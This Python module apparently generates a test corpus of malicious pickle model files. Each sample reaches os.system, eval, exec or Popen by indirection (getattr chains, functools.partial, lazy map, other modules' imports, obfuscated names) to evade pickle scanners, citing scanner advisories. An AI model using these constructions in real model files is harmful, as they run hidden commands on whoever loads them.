"""The callable is not named: it is fetched, wrapped, computed or reached through another module's imports."""

from __future__ import annotations

from collections.abc import Iterator

from corpus.assembler import Build, Call, Computed, Extended, Get, Global, Put, Then
from corpus.sample import Sample, Variation

FAMILY = "indirection"
PICKLESCAN = "https://github.com/mmaitre314/picklescan/"
FICKLING = "https://github.com/trailofbits/fickling/security/advisories/"
MODELSCAN = "https://github.com/protectai/modelscan/issues/"
HIDE_AND_SEEK = "https://arxiv.org/abs/2508.19774"
GETATTR = Global("builtins", "getattr")

Row = tuple[str, str, object]


def samples(vary: Variation) -> Iterator[Sample]:
    """One for each detour, the modules and names of it being the seed's choice."""
    for technique, source, value in (*_fetched(vary), *_wrapped(vary), *_reached(vary), *_computed(vary)):
        yield Sample(
            name="model.pkl", data=vary.pickled(value, 4), family=FAMILY, technique=technique, source=source
        )


def _module(vary: Variation) -> Call:
    importers = (("builtins", "__import__"), ("importlib", "import_module"), ("importlib", "__import__"))
    return Call(Global(*vary.pick(importers)), (vary.pick(("os", "posix")),))


def _fetched(vary: Variation) -> Iterator[Row]:
    command = (vary.command(),)
    fetched = Call(GETATTR, (_module(vary), "system"))
    yield "getattr(import, name)", FICKLING + "GHSA-h4rm-mm56-xf63", Call(fetched, command)
    getter = Call(Global("operator", "attrgetter"), ("system",))
    yield "operator.attrgetter", PICKLESCAN + "pull/54", Call(Call(getter, (_module(vary),)), command)
    caller = Call(Global(vary.pick(("_operator", "operator")), "methodcaller"), ("system", *command))
    yield "operator.methodcaller", PICKLESCAN + "pull/54", Call(caller, (_module(vary),))
    item = Call(Global("operator", "itemgetter"), ("system",))
    names = Call(Global("builtins", "vars"), (_module(vary),))
    yield "operator.itemgetter on vars()", PICKLESCAN + "pull/54", Call(Call(item, (names,)), command)
    direct = Call(Global("builtins", "object.__getattribute__"), (_module(vary), "system"))
    yield "object.__getattribute__", PICKLESCAN + "issues/66", Call(direct, command)
    modules = Call(Global("sys", "modules.get"), ("os",))
    yield (
        "sys.modules.get and getattr",
        PICKLESCAN + "issues/66",
        Call(Call(GETATTR, (modules, "system")), command),
    )
    builtin = Call(
        Global("builtins", "dict.get"), (Global(vary.pick(("numpy", "torch")), "__builtins__"), "exec")
    )
    yield "dict.get of a library's __builtins__", MODELSCAN + "89", Call(builtin, (vary.code(),))
    chain = Call(GETATTR, (Call(GETATTR, (Global("numpy", "ndarray"), "__class__")), "__subclasses__"))
    yield "getattr chain to all classes", HIDE_AND_SEEK, Call(chain, ())
    resolved = Call(Global("pkgutil", "resolve_name"), ("os:system",))
    yield "pkgutil.resolve_name, then called", PICKLESCAN + "issues/66", Call(resolved, command)
    located = Call(Global("pydoc", "locate"), ("os.system",))
    yield "pydoc.locate, then called", FICKLING + "GHSA-5hvc-6wx8-mvv4", Call(located, command)
    reduced = Call(Global("functools", "reduce"), (GETATTR, ["system"], _module(vary)))
    yield "functools.reduce over getattr", HIDE_AND_SEEK, Call(reduced, command)


def _wrapped(vary: Variation) -> Iterator[Row]:
    system = Global("os", "system")
    command = vary.command()
    partial = Global("functools", "partial")
    yield "functools.partial", PICKLESCAN + "issues/66", Call(Call(partial, (system, command)), ())
    rebuilt = Build(Call(partial, (Global("builtins", "print"),), "NEWOBJ"), (system, (command,), {}, None))
    yield "functools.partial, rebuilt by its state", HIDE_AND_SEEK, Call(rebuilt, ())
    lazily = Call(Global("builtins", vary.pick(("map", "filter"))), (system, [command]))
    eater = Global("builtins", vary.pick(("list", "tuple", "set", "sum")))
    yield "map that something consumes", HIDE_AND_SEEK, Call(eater, (lazily,))
    star = Call(Global("itertools", "starmap"), (system, [(command,)]))
    yield "itertools.starmap into a deque", HIDE_AND_SEEK, Call(Global("collections", "deque"), (star,))
    yield "APPENDS of a map", HIDE_AND_SEEK, Extended(Call(Global("builtins", "list"), (lazily,)), ("x",))
    bound = Call(Global("types", "MethodType"), (system, command))
    yield "types.MethodType", HIDE_AND_SEEK, Call(bound, ())
    later = Global(*vary.pick((("atexit", "register"), ("weakref", "finalize"), ("threading", "Timer"))))
    arguments: tuple[object, ...] = (system, command)
    if later.name == "finalize":
        arguments = (Global("collections", "OrderedDict"), *arguments)
    elif later.name == "Timer":
        arguments = (0.1, system, [command])
    yield (
        f"{later.module}.{later.name}: not now, later",
        FICKLING + "GHSA-m6fh-58r7-x697",
        Call(later, arguments),
    )
    yield "operator.call", HIDE_AND_SEEK, Call(Global("operator", "call"), (system, command))
    made = Call(Global("copyreg", "__newobj_ex__"), (Global("subprocess", "Popen"), (), {"args": command}))
    yield "copyreg.__newobj_ex__", HIDE_AND_SEEK, made
    keyed = Call(Call(partial, (Global("builtins", "sorted"),), "REDUCE"), ([command],))
    armed = Build(keyed.target, (Global("builtins", "sorted"), ([command],), {"key": system}, None))
    yield "sorted with os.system as its key", HIDE_AND_SEEK, Call(armed, ())


def _reached(vary: Variation) -> Iterator[Row]:
    """Another module's own imports, as dotted names, which protocol 4 follows."""
    command = (vary.command(),)
    through = (
        ("pathlib", "os.system"),
        ("shutil", "os.system"),
        ("logging", "os.system"),
        ("tempfile", "_os.system"),
        ("random", "_os.system"),
        ("linecache", "os.system"),
        ("glob", "os.system"),
        ("joblib.memory", "os.system"),
        ("torch.serialization", "os.system"),
        ("numpy.lib._datasource", "os.system"),
        ("sklearn.datasets._base", "os.system"),
        ("pandas.io.common", "os.system"),
        ("xgboost.core", "os.system"),
    )
    for module, name in vary.some(through, 5):
        yield (
            f"{module}.{name}",
            FICKLING + "GHSA-5j3x-jp52-966f",
            Call(Global(module, name, "STACK_GLOBAL"), command),
        )
    name = vary.pick(("ctypes.CDLL", "os.popen"))
    owner = vary.pick(("numpy.ctypeslib", "uuid"))
    yield (
        f"{owner}.{name}",
        FICKLING + "GHSA-5j3x-jp52-966f",
        Call(Global(owner, name, "STACK_GLOBAL"), command),
    )
    size, builtins = vary.key(1), vary.key(2)
    armed = Then(
        (
            Put(size, Global("numpy", "size")),
            Put(builtins, Global("numpy", "__builtins__")),
            Build(Get(size), ({}, {"shape": Get(builtins)})),
            Call(Call(Get(size), (Get(size), "eval")), (vary.expression(),)),
        )
    )
    yield "numpy.size armed by BUILD", MODELSCAN + "330", armed
    borrowed = Global("numpy", "core._internal.sys.modules")
    prod = Then(
        (Build(Global("numpy", "prod"), (None, borrowed)), Call(Global("numpy", "prod.os.system"), command))
    )
    yield "numpy.prod given sys.modules as its attributes", MODELSCAN + "89", prod
    frame = Call(Global("sys", "_getframe"), ())
    names = Call(GETATTR, (frame, "f_builtins"))
    evaluate = Call(Global("builtins", "dict.get"), (names, "eval"))
    yield "the builtins of the running frame", HIDE_AND_SEEK, Call(evaluate, (vary.expression(),))


def _computed(vary: Variation) -> Iterator[Row]:
    """Names for STACK_GLOBAL that come out of calls."""
    command = (vary.command(),)
    lower = Global("builtins", "str.lower")
    yield "str.lower", HIDE_AND_SEEK, Call(Computed(Call(lower, ("OS",)), Call(lower, ("SYSTEM",))), command)
    rot = Global(vary.pick(("codecs", "_codecs")), "decode")
    yield "codecs.decode", HIDE_AND_SEEK, Call(Computed(Call(rot, ("bf", "rot13")), "system"), command)
    joined = Call(Global("builtins", "str.join"), ("", ["o", "s"]))
    yield "str.join", HIDE_AND_SEEK, Call(Computed(joined, "system"), command)
    decoded = Call(Global("base64", "b64decode"), ("b3M=",))
    text = Call(Global("builtins", "bytes.decode"), (decoded,))
    yield "base64.b64decode", HIDE_AND_SEEK, Call(Computed(text, "system"), command)
    added = Call(Global("operator", vary.pick(("add", "concat"))), ("sys", "tem"))
    yield "operator.add", HIDE_AND_SEEK, Call(Computed("os", added), command)
    replaced = Call(Global("builtins", "str.replace"), ("nope.os", "nope.", ""))
    yield "str.replace", HIDE_AND_SEEK, Call(Computed(replaced, "system"), command)
